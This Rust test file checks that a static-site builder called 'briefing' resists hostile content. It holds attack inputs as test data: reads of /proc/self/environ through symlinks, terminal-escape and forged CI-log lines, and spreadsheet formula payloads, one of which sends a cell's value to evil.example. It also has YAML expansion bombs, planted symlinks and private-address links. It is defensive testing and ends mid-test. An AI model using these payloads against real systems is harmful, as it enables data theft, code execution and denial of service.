//! The second round of hardening: what a hostile contributor (who edits
//! only content) or a hostile client could try, from the outside. Each
//! test names the class of attack it stands for.

mod common;

use common::*;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Runs the binary with a secret in its environment, as a CI job has.
fn briefing_with_secret(dir: &Path, args: &[&str]) -> Run {
    Command::new(env!("CARGO_BIN_EXE_briefing"))
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .env("BRIEFING_TEST_SECRET", SECRET)
        .output()
        .unwrap()
        .into()
}

const SECRET: &str = "hunter2-do-not-print";

/// The build failed, said `expect`, did not print the secret and left the
/// site as it was.
fn refused(dir: &Path, args: &[&str], expect: &str) -> Run {
    let public = dir.join("public");
    let before = snapshot(&public);
    let run = briefing_with_secret(dir, args);
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains(expect),
        "expected `{expect}` in:\n{}",
        run.stderr
    );
    assert!(
        !run.stderr.contains(SECRET),
        "the secret leaked:\n{}",
        run.stderr
    );
    assert!(
        !run.stdout.contains(SECRET),
        "the secret leaked:\n{}",
        run.stdout
    );
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    assert_eq!(before, snapshot(&public), "the old site changed");
    run
}

/// The test briefing, built once so that there is a site to keep.
fn built_fixture() -> tempfile::TempDir {
    let dir = fixture("minimal");
    let first = briefing(dir.path(), &["build"]);
    assert!(first.ok(), "{}", first.stderr);
    dir
}

/// Names `folder` as the originals in briefing.yaml.
fn set_originals(root: &Path, folder: &str) {
    edit(
        root,
        "content/briefing.yaml",
        "originals: \"originals\"",
        &format!("originals: \"{folder}\""),
    );
}

/// Points alpha's `original:` at `name` and makes its first quote miss,
/// so that the build would show the closest passage of whatever it read.
fn point_original_at(root: &Path, name: &str) {
    edit(
        root,
        "content/sources/alpha.md",
        "original: \"alpha.txt\"",
        &format!("original: \"{name}\""),
    );
    edit(
        root,
        "content/sources/alpha.md",
        "Acme doubled capacity last year",
        "BRIEFING_TEST_SECRET=hunter2",
    );
}

#[cfg(target_os = "linux")]
#[test]
fn content_cannot_make_the_build_read_the_machines_environment() {
    // The attack as reported: a system folder named in briefing.yaml.
    let dir = built_fixture();
    point_original_at(dir.path(), "environ");
    set_originals(dir.path(), "/proc/self");
    let run = refused(dir.path(), &["build"], "system folder /proc");
    assert!(
        run.stderr.contains("content/briefing.yaml:"),
        "{}",
        run.stderr
    );

    // The same through a committed link, which only resolving catches.
    let dir = built_fixture();
    point_original_at(dir.path(), "environ");
    std::os::unix::fs::symlink("/proc/self", dir.path().join("o")).unwrap();
    set_originals(dir.path(), "o");
    refused(dir.path(), &["build"], "system folder /proc");

    // A link inside an honest originals folder, with a text file's name.
    let dir = built_fixture();
    point_original_at(dir.path(), "env.txt");
    std::os::unix::fs::symlink("/proc/self/environ", dir.path().join("originals/env.txt")).unwrap();
    refused(dir.path(), &["build"], "leads outside the originals folder");

    // A folder the person chose on the command line is theirs to choose,
    // but the file names still come from content.
    let dir = built_fixture();
    point_original_at(dir.path(), "environ");
    refused(
        dir.path(),
        &["build", "--originals", "/proc/self"],
        "does not end in an original's extension",
    );
}

#[test]
fn hidden_files_and_folders_are_never_read_as_originals() {
    let dir = built_fixture();
    std::fs::create_dir_all(dir.path().join("originals/.keys")).unwrap();
    std::fs::write(
        dir.path().join("originals/.keys/key.txt"),
        format!("BRIEFING_TEST_SECRET={SECRET}"),
    )
    .unwrap();
    point_original_at(dir.path(), ".keys/key.txt");
    refused(dir.path(), &["build"], "`.keys` is hidden");

    // A hidden folder named as the originals folder, beside the project.
    let dir = built_fixture();
    std::fs::create_dir_all(dir.path().join(".private")).unwrap();
    std::fs::write(
        dir.path().join(".private/alpha.txt"),
        format!("BRIEFING_TEST_SECRET={SECRET}"),
    )
    .unwrap();
    point_original_at(dir.path(), "alpha.txt");
    set_originals(dir.path(), ".private");
    refused(dir.path(), &["build"], "`.private` is hidden");
}

#[test]
fn the_examples_sibling_originals_folder_still_verifies() {
    // The shipped example names `../shared/seeds`: a sibling, not hidden.
    let dir = fixture("minimal");
    let project = dir.path().join("project");
    std::fs::create_dir(&project).unwrap();
    for part in ["content", "templates"] {
        std::fs::rename(dir.path().join(part), project.join(part)).unwrap();
    }
    set_originals(&project, "../originals");
    let run = briefing(&project, &["build"]);
    assert!(run.ok(), "{}", run.stderr);
    assert!(
        run.stdout.contains("5 verified against originals"),
        "{}",
        run.stdout
    );
}

#[cfg(unix)]
#[test]
fn a_templates_folder_linked_from_elsewhere_is_refused() {
    let dir = built_fixture();
    let elsewhere = tempfile::tempdir().unwrap();
    copy_dir(&dir.path().join("templates"), elsewhere.path());
    std::fs::remove_dir_all(dir.path().join("templates")).unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), dir.path().join("templates")).unwrap();
    refused(
        dir.path(),
        &["build"],
        "`templates/` is a symbolic link that leads out of the project",
    );

    // And content/, the same way.
    let dir = built_fixture();
    let elsewhere = tempfile::tempdir().unwrap();
    copy_dir(&dir.path().join("content"), elsewhere.path());
    std::fs::remove_dir_all(dir.path().join("content")).unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), dir.path().join("content")).unwrap();
    refused(
        dir.path(),
        &["build"],
        "`content/` is a symbolic link that leads out of the project",
    );
}

/// `--out ~` or `--out docs` by mistake: a folder holding files no build
/// wrote is not replaced, whatever it holds; one a build wrote is.
#[test]
fn an_output_folder_holding_files_no_build_wrote_is_not_replaced() {
    let dir = fixture("minimal");
    let root = dir.path();
    let home = root.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "key").unwrap();
    let run = briefing(root, &["build", "--out", "home"]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(
        run.stderr
            .contains("holds files no build wrote (such as `.ssh`)"),
        "{}",
        run.stderr
    );
    assert_eq!(read(&home.join(".ssh/id_rsa")), "key");
    assert!(!home.join("index.html").exists());

    // An empty folder is taken, and then built again like public/: the
    // lock file a build keeps beside it says a build wrote it.
    std::fs::create_dir(root.join("site")).unwrap();
    assert!(briefing(root, &["build", "--out", "site"]).ok());
    std::fs::write(root.join("site/stale.html"), "old").unwrap();
    let run = briefing(root, &["build", "--out", "site"]);
    assert!(run.ok(), "{}", run.stderr);
    assert!(!root.join("site/stale.html").exists());
    // A site a build wrote, moved elsewhere, is known by what it holds.
    std::fs::rename(root.join("site"), root.join("moved")).unwrap();
    let run = briefing(root, &["build", "--out", "moved"]);
    assert!(run.ok(), "{}", run.stderr);
    assert!(root.join("moved/index.html").is_file());
}

#[test]
fn the_output_folder_cannot_replace_the_originals_or_the_project() {
    let dir = built_fixture();
    let originals = snapshot(&dir.path().join("originals"));
    let content = snapshot(&dir.path().join("content"));
    for (out, why) in [
        ("originals", "it is the originals folder"),
        ("originals/site", "it is inside the originals folder"),
        ("content/site", "it is inside the project's content/"),
        ("templates", "it is the project's templates/"),
        (".", "it is the project folder"),
        ("..", "it holds the project folder"),
    ] {
        let run = refused(dir.path(), &["build", "--out", out], why);
        assert!(
            run.stderr.contains("refusing to write the site here"),
            "{}",
            run.stderr
        );
    }
    // The same folder, named on the command line as the originals.
    let other = tempfile::tempdir().unwrap();
    copy_dir(&dir.path().join("originals"), other.path());
    let named = other.path().to_str().unwrap();
    refused(
        dir.path(),
        &["build", "--originals", named, "--out", named],
        "it is the originals folder",
    );
    assert_eq!(originals, snapshot(&dir.path().join("originals")));
    assert_eq!(content, snapshot(&dir.path().join("content")));
    assert!(other.path().join("alpha.txt").is_file());
    // A folder of its own beside the project is fine.
    let site = tempfile::tempdir().unwrap();
    let out = site.path().join("site");
    let run = briefing(dir.path(), &["build", "--out", out.to_str().unwrap()]);
    assert!(run.ok(), "{}", run.stderr);
    assert!(out.join("index.html").is_file());
}

#[test]
fn ids_windows_cannot_use_as_file_names_are_refused() {
    let dir = built_fixture();
    std::fs::copy(
        dir.path().join("content/sources/beta.md"),
        dir.path().join("content/sources/con.md"),
    )
    .unwrap();
    let line = edit(
        dir.path(),
        "content/entities.yaml",
        "id: acme\n",
        "id: nul\n",
    );
    let run = refused(dir.path(), &["build"], "Windows reserves this name");
    assert!(
        run.stderr.contains("content/sources/con.md"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains(&format!("content/entities.yaml:{line}:")),
        "{}",
        run.stderr
    );
}

#[cfg(unix)]
#[test]
fn names_and_text_from_content_cannot_drive_the_terminal_or_forge_ci_log_lines() {
    let dir = built_fixture();
    // A file name with an escape sequence (it would retitle the terminal)
    // and a line break followed by a GitHub Actions command.
    let evil = "evil\u{1b}]0;pwned\u{7}\n::error::forged.md";
    std::fs::copy(
        dir.path().join("content/sources/beta.md"),
        dir.path().join("content/sources").join(evil),
    )
    .unwrap();
    // A raw escape and a carriage return inside a YAML line, which the
    // report quotes.
    edit(
        dir.path(),
        "content/claims.yaml",
        "  topic: regulation\n",
        "  topic: regu\u{1b}[2J\rlation\u{202e}x\n",
    );
    let run = briefing(dir.path(), &["build"]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    for (what, bad) in [
        ("escape", '\u{1b}'),
        ("bell", '\u{7}'),
        ("carriage return", '\r'),
        ("right-to-left override", '\u{202e}'),
    ] {
        assert!(
            !run.stderr.contains(bad),
            "a raw {what} was printed:\n{}",
            run.stderr
        );
    }
    assert!(
        !run.stderr.lines().any(|l| l.starts_with("::")),
        "a line that CI would run as a command:\n{}",
        run.stderr
    );
    assert!(run.stderr.contains("evil\\u{1b}]0;pwned"), "{}", run.stderr);
    assert!(
        run.stderr.contains("content/claims.yaml:"),
        "{}",
        run.stderr
    );

    // The report for tools, too: the same JSON to a parser, nothing raw
    // that a terminal acts on (serde_json leaves C1 controls such as
    // U+009B, which starts an escape sequence, and bidi controls raw).
    // A YAML escape puts them in an id, which the message quotes.
    edit(
        dir.path(),
        "content/sources/alpha.md",
        "claim: buyer-named",
        "claim: \"buyer\\u009b2J\\u202enamed\"",
    );
    let json = briefing(dir.path(), &["check", "--format", "json"]);
    assert_eq!(json.code, Some(1), "{}", json.stderr);
    for bad in ['\u{1b}', '\u{7}', '\r', '\u{202e}', '\u{9b}'] {
        assert!(
            !json.stdout.contains(bad),
            "{bad:?} raw in:\n{}",
            json.stdout
        );
    }
    let report: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let names: Vec<&str> = report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|d| d["file"].as_str())
        .collect();
    assert!(
        names.iter().any(|n| n.contains("evil\u{1b}]0;pwned")),
        "{names:?}"
    );
    let messages: Vec<&str> = report["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|d| d["message"].as_str())
        .collect();
    assert!(
        messages
            .iter()
            .any(|m| m.contains("buyer\u{9b}2J\u{202e}named")),
        "{messages:?}"
    );
}

fn signal(pid: u32, sig: &str) {
    let status = Command::new("kill")
        .args([sig, &pid.to_string()])
        .status()
        .unwrap();
    assert!(status.success(), "kill {sig} {pid}");
}

#[cfg(unix)]
#[test]
fn a_second_build_while_the_first_is_paused_never_leaves_half_a_site() {
    let dir = fixture("minimal");
    let root = dir.path();
    grow(root, 1200);
    let spawn = || {
        Command::new(env!("CARGO_BIN_EXE_briefing"))
            .args(["build", "--quiet"])
            .current_dir(root)
            .env("NO_COLOR", "1")
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };
    let mut first = spawn();
    // Pause the first build once it is writing.
    let deadline = Instant::now() + Duration::from_secs(120);
    loop {
        let written = staging_dirs(root).first().map_or(0, |s| {
            walkdir::WalkDir::new(s)
                .into_iter()
                .filter_map(Result::ok)
                .count()
        });
        if written > 20 {
            break;
        }
        assert!(
            first.try_wait().unwrap().is_none(),
            "the first build finished before it could be paused"
        );
        assert!(Instant::now() < deadline, "the first build never wrote");
        std::thread::sleep(Duration::from_micros(200));
    }
    signal(first.id(), "-STOP");
    let mut second = spawn();
    // The second must not go ahead (and clear the paused build's staging
    // folder as a dead build's leftovers) while the first holds the site.
    std::thread::sleep(Duration::from_secs(3));
    let waited = second.try_wait().unwrap().is_none();
    signal(first.id(), "-CONT");
    let first_out = first.wait_with_output().unwrap();
    let second_out = second.wait_with_output().unwrap();
    let second_err = String::from_utf8_lossy(&second_out.stderr);
    assert!(waited, "the second build did not wait: {second_err}");
    assert!(
        first_out.status.success(),
        "{}",
        String::from_utf8_lossy(&first_out.stderr)
    );
    assert!(second_out.status.success(), "{second_err}");
    assert!(
        second_err.contains("waiting for another build"),
        "{second_err}"
    );
    // A whole site, and nothing left behind.
    for i in 0..1200 {
        let page = root.join(format!("public/sources/copy-{i:04}/index.html"));
        assert!(page.is_file(), "{} is missing", page.display());
    }
    assert!(root.join("public/index.html").is_file());
    assert!(staging_dirs(root).is_empty(), "leftovers remain");
}

#[test]
fn exports_cannot_be_turned_against_spreadsheets_or_feed_readers() {
    let dir = fixture("minimal");
    // Characters XML forbids, through YAML escapes and raw in Markdown.
    edit(
        dir.path(),
        "content/briefing.yaml",
        "title: \"Widgets go global\"",
        "title: \"Widgets\\x01 go \\uFFFE global\\x1b\"\nbase_url: \"https://example.org/brief/\"",
    );
    edit(
        dir.path(),
        "content/timeline.yaml",
        "detail: \"The Trade Office has not ruled",
        "detail: \"\\uFFFFThe Trade Office\\x0B has not ruled",
    );
    edit(
        dir.path(),
        "content/sources/alpha.md",
        "title: \"Acme eyes exports\"",
        "title: \"Acme\\x02 eyes exports\"",
    );
    // Cells a spreadsheet would run as formulas, and a negative figure.
    edit(
        dir.path(),
        "content/claims.yaml",
        "statement: \"Acme doubled its widget capacity in 2025.\"",
        "statement: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"click\\\")\"",
    );
    edit(
        dir.path(),
        "content/claims.yaml",
        "topic: regulation",
        "topic: \"@SUM(1+1)\"",
    );
    edit(
        dir.path(),
        "content/claims.yaml",
        "topic: market",
        "topic: \"-2+3\"",
    );
    edit(
        dir.path(),
        "content/claims.yaml",
        "metric: \"Acme widget capacity\"",
        "metric: \"+cmd|' /C calc'!A0\"",
    );
    edit(
        dir.path(),
        "content/claims.yaml",
        "value: 2000",
        "value: -2.5",
    );
    let run = briefing(dir.path(), &["build"]);
    assert!(run.ok(), "{}", run.stderr);
    let public = dir.path().join("public");

    for xml in ["feed.xml", "sitemap.xml"] {
        let text = read(&public.join(xml));
        if let Err(e) = roxmltree::Document::parse(&text) {
            panic!("{xml} is not well-formed: {e}\n{text}");
        }
        assert!(
            !text.contains(['\u{1}', '\u{2}', '\u{b}', '\u{1b}', '\u{fffe}', '\u{ffff}']),
            "{xml} carries a character XML forbids"
        );
    }
    assert!(read(&public.join("feed.xml")).contains("Widgets\u{fffd} go"));

    let mut csv = csv::Reader::from_path(public.join("data/claims.csv")).unwrap();
    let header = csv.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    let formula_start = ['=', '+', '-', '@', '\t', '\r'];
    for row in &rows {
        for (i, cell) in row.iter().enumerate() {
            if header[i] == *"figure_value" {
                continue;
            }
            assert!(
                !cell.starts_with(formula_start),
                "{}: `{cell}` would run as a formula",
                &header[i]
            );
        }
    }
    let row = rows
        .iter()
        .find(|r| &r[0] == "acme-capacity-doubled")
        .unwrap();
    assert!(row[col("statement")].starts_with("'=HYPERLINK("), "{row:?}");
    assert_eq!(&row[col("figure_metric")], "'+cmd|' /C calc'!A0");
    assert_eq!(
        &row[col("figure_value")],
        "-2.5",
        "a negative number stays a number"
    );
    let topics: Vec<&str> = rows.iter().map(|r| &r[col("topic")]).collect();
    assert!(topics.contains(&"'@SUM(1+1)"), "{topics:?}");
    assert!(topics.contains(&"'-2+3"), "{topics:?}");
}

/// Runs a build with its address space capped at `mib` MiB and killed
/// after `seconds`: a guard against blow-ups, not a benchmark (each input
/// here is handled in well under a second when the work is linear).
/// Returns the run and how long it took.
fn bounded(dir: &Path, seconds: u64, mib: u64) -> (Run, Duration) {
    let started = Instant::now();
    let mut child = Command::new("sh")
        .arg("-c")
        .arg(format!("ulimit -v {}; exec \"$0\" build", mib * 1024))
        .arg(env!("CARGO_BIN_EXE_briefing"))
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > Duration::from_secs(seconds) {
            child.kill().ok();
            let out = child.wait_with_output().unwrap();
            panic!(
                "still running after {seconds} s: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let run: Run = child.wait_with_output().unwrap().into();
    (run, started.elapsed())
}

/// The bound every bomb below must stay inside: 30 s (a debug build on a
/// busy 2-core machine) and 2 GiB of address space.
fn refused_within_bounds(dir: &Path, expect: &str) {
    let (run, took) = bounded(dir, 30, 2048);
    assert_eq!(
        run.code,
        Some(1),
        "after {took:?}, stdout: {}\nstderr: {}",
        run.stdout,
        run.stderr
    );
    assert!(
        run.stderr.contains(expect),
        "expected `{expect}` in:\n{}",
        run.stderr
    );
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
}

#[test]
fn a_yaml_anchor_fanned_out_a_thousand_times_is_refused() {
    let dir = fixture("minimal");
    let big = "x".repeat(1024 * 1024);
    let refs = vec!["*big"; 1000].join(", ");
    let claims = read(&dir.path().join("content/claims.yaml"));
    std::fs::write(
        dir.path().join("content/claims.yaml"),
        claims.replacen(
            "  topic: supply\n",
            &format!("  topic: supply\n  tags: [&big \"{big}\"]\n"),
            1,
        ) + &format!(
            "- id: fan-out\n  statement: \"x\"\n  topic: t\n  verdict: unverified\n  verdict_note: \"n\"\n  tags: [{refs}]\n"
        ),
    )
    .unwrap();
    refused_within_bounds(dir.path(), "would expand this YAML");
}

#[test]
fn yaml_nested_a_hundred_thousand_levels_deep_is_refused() {
    let dir = fixture("minimal");
    let claims = read(&dir.path().join("content/claims.yaml"));
    std::fs::write(
        dir.path().join("content/claims.yaml"),
        format!(
            "{claims}- id: deep\n  tags:\n    {}x\n",
            "- ".repeat(100_000)
        ),
    )
    .unwrap();
    refused_within_bounds(dir.path(), "nested more than 64 levels deep");
}

#[test]
fn entity_names_of_repetitive_text_are_refused() {
    let dir = fixture("minimal");
    let mut entities = read(&dir.path().join("content/entities.yaml"));
    for i in 0..50 {
        entities.push_str(&format!(
            "- id: e{i}\n  name: \"{}\"\n  aliases: [\"{}\"]\n",
            "ab".repeat(100_000),
            "ba".repeat(100_000)
        ));
    }
    std::fs::write(dir.path().join("content/entities.yaml"), entities).unwrap();
    refused_within_bounds(dir.path(), "characters long, over the limit of 200");
}

#[test]
fn a_long_quote_that_misses_a_long_original_is_reported_quickly() {
    let dir = fixture("minimal");
    let original = "the filing shows capacity grew and the permit waits ".repeat(80_000);
    std::fs::write(dir.path().join("originals/alpha.txt"), original).unwrap();
    let quote = "the filing shows that capacity grew while permits wait ".repeat(17);
    edit(
        dir.path(),
        "content/sources/alpha.md",
        "quote: \"Acme doubled capacity last year\"",
        &format!("quote: \"{}\"", quote.trim()),
    );
    refused_within_bounds(dir.path(), "the closest passage in the original reads");

    // A quote past the length limit is refused before any search.
    edit(
        dir.path(),
        "content/sources/alpha.md",
        "quote: \"the permit is still pending\"",
        &format!("quote: \"{}\"", "word ".repeat(400).trim()),
    );
    refused_within_bounds(
        dir.path(),
        "this quote is 1999 characters long, over the limit of 1000",
    );
}

#[test]
fn pathological_markdown_renders_in_linear_time() {
    let dir = fixture("minimal");
    let page = format!(
        "---\ntitle: \"Many\"\n---\n{}\n{}x{}\n\n{}\n",
        "## Same heading\n\n".repeat(20_000),
        "![".repeat(10_000),
        "](i.png)".repeat(10_000),
        "[![".repeat(5_000)
    );
    std::fs::write(dir.path().join("content/pages/many.md"), page).unwrap();
    let (run, took) = bounded(dir.path(), 30, 2048);
    assert!(run.ok(), "after {took:?}: {}", run.stderr);
    let html = read(&dir.path().join("public/pages/many/index.html"));
    assert!(html.contains("id=\"same-heading-19999\""));
}

/// When each request came, with its request line.
type Requests = std::sync::Arc<std::sync::Mutex<Vec<(Instant, String)>>>;

/// A server on a loopback port that answers 404 for a path with `/gone`
/// in it and 200 for any other, and notes when each request came: a
/// stand-in for the hosts a briefing cites.
fn counting_server() -> (u16, Requests) {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut buf = [0u8; 4096];
            let n = stream.read(&mut buf).unwrap_or(0);
            let line = String::from_utf8_lossy(&buf[..n])
                .lines()
                .next()
                .unwrap_or("")
                .to_string();
            let status = if line.contains("/gone") {
                "404 Not Found"
            } else {
                "200 OK"
            };
            log.lock().unwrap().push((Instant::now(), line));
            let _ = stream.write_all(
                format!("HTTP/1.1 {status}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                    .as_bytes(),
            );
        }
    });
    (port, seen)
}

#[test]
fn the_link_checker_leaves_private_addresses_alone_and_paces_each_host() {
    let dir = fixture("minimal");
    let (port, seen) = counting_server();
    // One host written four ways: with user information, another port,
    // and plain. All on this machine, as a hostile briefing would write
    // links to the CI machine's own services.
    let links: Vec<String> = vec![
        format!("http://127.0.0.1:{port}/plain"),
        format!("http://reader@127.0.0.1:{port}/user"),
        format!("http://other:secret@127.0.0.1:{port}/password"),
        format!("http://127.0.0.1:{port}/again"),
    ];
    let body = links
        .iter()
        .enumerate()
        .map(|(i, l)| format!("[link {i}]({l})"))
        .collect::<Vec<_>>()
        .join(" and ");
    edit(
        dir.path(),
        "content/pages/about.md",
        "We read two sources.",
        &body,
    );
    // A name that resolves to this machine is refused where it resolves.
    edit(
        dir.path(),
        "content/pages/about.md",
        "[link 0]",
        &format!("[by name](http://localhost:{port}/name) and [link 0]"),
    );
    // No other host is asked in a test.
    edit(
        dir.path(),
        "content/sources/alpha.md",
        "url: \"https://alpha.example/acme\"\n",
        "",
    );

    let run = briefing(dir.path(), &["check", "--links", "--online"]);
    assert!(run.ok(), "{}\n{}", run.stdout, run.stderr);
    assert!(
        seen.lock().unwrap().is_empty(),
        "a private address was asked"
    );
    assert_eq!(run.stdout.matches("NOT ASKED").count(), 5, "{}", run.stdout);
    assert!(run.stdout.contains("--allow-private"), "{}", run.stdout);
    assert!(
        run.stdout
            .contains(&format!("localhost:{port}/name NOT ASKED (it leads to")),
        "{}",
        run.stdout
    );
    edit(
        dir.path(),
        "content/pages/about.md",
        &format!("[by name](http://localhost:{port}/name) and "),
        "",
    );

    // Asked for, they are fetched, one host at a time, a second apart.
    let run = briefing(
        dir.path(),
        &["check", "--links", "--online", "--allow-private"],
    );
    assert!(run.ok(), "{}\n{}", run.stdout, run.stderr);
    assert_eq!(run.stdout.matches(" ok 200").count(), 4, "{}", run.stdout);
    let seen = seen.lock().unwrap();
    assert_eq!(seen.len(), 4, "{seen:?}");
    for pair in seen.windows(2) {
        let gap = pair[1].0 - pair[0].0;
        assert!(
            gap >= Duration::from_millis(900),
            "two requests to one host {gap:?} apart: {seen:?}"
        );
    }
}

#[cfg(unix)]
#[test]
fn links_planted_where_the_build_writes_are_not_followed() {
    let dir = fixture("minimal");
    let root = dir.path();
    assert!(briefing(root, &["build"]).ok());
    // A file the links point at, standing for an original or a dotfile.
    let victim = root.join("originals/victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    // The output folder's lock file, and the quote lock's temporary file
    // (of any process id: the build's own is tried with a fresh name).
    std::fs::remove_file(root.join(".public.lock")).unwrap();
    std::os::unix::fs::symlink(&victim, root.join(".public.lock")).unwrap();
    let run = briefing(root, &["build"]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(run.stderr.contains(".public.lock"), "{}", run.stderr);
    assert!(run.stderr.contains("symbolic link"), "{}", run.stderr);
    assert_eq!(read(&victim), "precious");
    std::fs::remove_file(root.join(".public.lock")).unwrap();

    // A stale lock makes the build write a new one.
    std::fs::write(
        root.join("content/quotes.lock"),
        "{\"version\": 1, \"quotes\": []}\n",
    )
    .unwrap();
    let run = briefing(root, &["build"]);
    assert!(run.ok(), "{}", run.stderr);
    assert!(run.stdout.contains("quotes.lock updated"), "{}", run.stdout);
    assert_eq!(read(&victim), "precious");
    assert!(!std::fs::symlink_metadata(root.join("content/quotes.lock"))
        .unwrap()
        .file_type()
        .is_symlink());
}

#[cfg(unix)]
#[test]
fn the_output_folder_cannot_be_the_templates_through_a_link() {
    // templates/ may be a link to a folder inside the project; that folder
    // is the theme, and --out may not replace it.
    let dir = fixture("minimal");
    let root = dir.path();
    std::fs::create_dir(root.join("theme")).unwrap();
    std::fs::rename(root.join("templates"), root.join("theme/templates")).unwrap();
    std::os::unix::fs::symlink("theme/templates", root.join("templates")).unwrap();
    let run = briefing(root, &["build"]);
    assert!(run.ok(), "{}", run.stderr);
    refused(
        root,
        &["build", "--out", "theme/templates"],
        "it is the project's templates/",
    );
    assert!(root.join("theme/templates/base.html").is_file());
}

#[test]
fn an_originals_folder_may_not_wander_the_machine() {
    let dir = fixture("minimal");
    let project = dir.path().join("project");
    std::fs::create_dir(&project).unwrap();
    for part in ["content", "templates"] {
        std::fs::rename(dir.path().join(part), project.join(part)).unwrap();
    }
    // A folder two levels up (a sibling of the parent), written relative
    // and absolute: neither the project's nor beside it.
    let far = tempfile::Builder::new().prefix("far").tempdir().unwrap();
    std::fs::write(
        far.path().join("alpha.txt"),
        format!("BRIEFING_TEST_SECRET={SECRET}"),
    )
    .unwrap();
    let written = far.path().to_str().unwrap().to_string();
    set_originals(&project, &written);
    point_original_at(&project, "alpha.txt");
    refused(
        &project,
        &["build"],
        "neither in the project's folder nor beside it",
    );
}

#[test]
fn a_web_page_original_nested_deep_is_refused_before_it_is_parsed() {
    let dir = fixture("minimal");
    let n = 200_000;
    std::fs::write(
        dir.path().join("originals/alpha.html"),
        format!(
            "<html><body>{}Acme doubled capacity last year{}</body></html>",
            "<div>".repeat(n),
            "</div>".repeat(n)
        ),
    )
    .unwrap();
    edit(
        dir.path(),
        "content/sources/alpha.md",
        "original: \"alpha.txt\"",
        "original: \"alpha.html\"",
    );
    refused_within_bounds(
        dir.path(),
        "nests its elements 200000 deep, over the limit of 1000",
    );
}

#[test]
fn a_link_that_no_longer_works_fails_the_check_in_text_and_in_json() {
    let dir = fixture("minimal");
    let (port, seen) = counting_server();
    let gone = format!("http://127.0.0.1:{port}/gone");
    let fine = format!("http://127.0.0.1:{port}/fine");
    edit(
        dir.path(),
        "content/pages/about.md",
        "We read two sources.",
        &format!("[one]({gone}) and [two]({fine})"),
    );
    // No other host is asked in a test.
    edit(
        dir.path(),
        "content/sources/alpha.md",
        "url: \"https://alpha.example/acme\"\n",
        "",
    );
    let online = ["check", "--links", "--online", "--allow-private"];

    let run = briefing(dir.path(), &online);
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stdout.contains(&format!("{gone} BROKEN 404")),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains(&format!("{fine} ok 200")),
        "{}",
        run.stdout
    );
    assert!(
        run.stderr
            .contains("1 of 2 links did not answer as working"),
        "{}",
        run.stderr
    );

    // The same verdict for tools: each link's answer, and `ok` false.
    let run = briefing(dir.path(), &[&online[..], &["--format", "json"]].concat());
    assert_eq!(run.code, Some(1), "{}\n{}", run.stdout, run.stderr);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["ok"], false, "{report}");
    let answer = |url: &str| {
        report["links"]
            .as_array()
            .unwrap()
            .iter()
            .find(|l| l["url"] == url)
            .unwrap_or_else(|| panic!("{url} not listed: {report}"))["answer"]
            .clone()
    };
    assert_eq!(
        answer(&gone),
        serde_json::json!({"status": 404, "works": false})
    );
    assert_eq!(
        answer(&fine),
        serde_json::json!({"status": 200, "works": true})
    );
    // Both asked in each mode: the JSON report is not a list only.
    assert_eq!(seen.lock().unwrap().len(), 4);

    // Without --online nothing is asked, and no answer is claimed.
    let run = briefing(dir.path(), &["check", "--links", "--format", "json"]);
    assert!(run.ok(), "{}", run.stderr);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["ok"], true);
    assert!(report["links"][0].get("answer").is_none(), "{report}");
    assert_eq!(seen.lock().unwrap().len(), 4);

    // Left alone (not --allow-private), a link is not asked and fails nothing.
    let run = briefing(
        dir.path(),
        &["check", "--links", "--online", "--format", "json"],
    );
    assert!(run.ok(), "{}\n{}", run.stdout, run.stderr);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["ok"], true);
    assert!(
        report["links"][0]["answer"]["not_asked"].is_string(),
        "{report}"
    );
    assert_eq!(seen.lock().unwrap().len(), 4);
}

/// `schema` writes its files in place of links planted at their names,
/// never through them, and not into a schema folder that leads out.
#[cfg(unix)]
#[test]
fn schema_never_writes_through_a_planted_link() {
    use std::os::unix::fs::symlink;
    let dir = fixture("minimal");
    let root = dir.path();
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    let claims = read(&root.join("content/claims.yaml"));
    std::fs::create_dir(root.join("schema")).unwrap();
    symlink(&victim, root.join("schema/claims.schema.json")).unwrap();
    symlink(
        "../content/claims.yaml",
        root.join("schema/timeline.schema.json"),
    )
    .unwrap();
    let run = briefing(root, &["schema"]);
